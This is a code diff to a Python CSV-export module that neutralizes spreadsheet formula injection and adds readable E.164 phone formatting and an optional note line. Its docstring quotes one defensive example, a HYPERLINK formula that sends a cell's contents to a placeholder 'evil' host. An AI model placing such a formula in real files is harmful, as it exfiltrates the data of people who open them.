@@ -6,6 +6,11 @@ Sheets as a formula: `=HYPERLINK("http://evil/?"&A2, "click")` in a customer's n
 would run on the steward's machine. Such cells get a leading apostrophe, which spreadsheets
 show as plain text and hide; this is OWASP's recommended neutralization for CSV injection.
 Numbers stay numbers: only text cells are touched, so a negative amount is still a number.
+
+Phone numbers are the exception people see most: in E.164 they start with '+', and the
+apostrophe shows when a CSV is opened (it is hidden only when typed). Columns named as phones
+are written as "(+34) 612 34 56 78" instead: a text no spreadsheet reads as a formula or a
+number, with every digit kept and nothing to strip.
 """
 
 from __future__ import annotations
@@ -33,19 +38,54 @@ def _neutralize(cells: pl.Series) -> pl.Series:
     return ("'" + text).zip_with(risky, text).alias(cells.name)
 
 
-def csv_for_people(frame: pl.DataFrame) -> bytes:
+def csv_for_people(
+    frame: pl.DataFrame, phones: tuple[str, ...] = (), first_line: str = ""
+) -> bytes:
     """`frame` as a spreadsheet-safe CSV: neutralized cells, UTF-8 with a BOM.
 
     Lists (such as quarantine reasons) are joined with "; " so the file has one value per
-    cell.
+    cell. `phones` name columns of E.164 numbers, written readably (`readable_phone`).
+    `first_line`, if given, is a note above the header (a '#' line, one cell: no commas).
     """
     flat = pl.DataFrame(
-        [_joined(s) if isinstance(s.dtype, pl.List) else s for s in frame.get_columns()]
+        [
+            _joined(s)
+            if isinstance(s.dtype, pl.List)
+            else s.map_elements(readable_phone, return_dtype=pl.String)
+            if s.name in phones and s.dtype == pl.String
+            else s
+            for s in frame.get_columns()
+        ]
     )
     buffer = io.BytesIO()
+    if first_line:
+        if any(c in first_line for c in ',;"\r\n') or not first_line.startswith("#"):
+            raise ValueError("the note line must start with '#' and hold no separator")
+        buffer.write(("\ufeff" + first_line + "\n").encode("utf-8"))
+        flat = spreadsheet_safe(flat)
+        flat.write_csv(buffer)
+        return buffer.getvalue()
     # The BOM makes Excel read the file as UTF-8, so accented names survive.
     spreadsheet_safe(flat).write_csv(buffer, include_bom=True)
     return buffer.getvalue()
+
+
+def readable_phone(number: str | None) -> str | None:
+    """'+34612345678' as '(+34) 612 34 56 78': the country code in brackets, then the
+    number grouped as the country writes it. Anything else is returned as it is."""
+    if not number or not number.startswith("+"):
+        return number
+    import phonenumbers
+
+    try:
+        parsed = phonenumbers.parse(number, None)
+    except phonenumbers.NumberParseException:
+        return f"(+) {number[1:]}"
+    # the international form without its "+CC ": no trunk prefix (the UK's 0) to mislead
+    written = phonenumbers.format_number(parsed, phonenumbers.PhoneNumberFormat.INTERNATIONAL)
+    code = f"+{parsed.country_code}"
+    rest = written[len(code) :].strip() if written.startswith(code) else number[1:]
+    return f"({code}) {rest or number[len(code) :]}"
 
 
 def _safe_name(name: str) -> str:
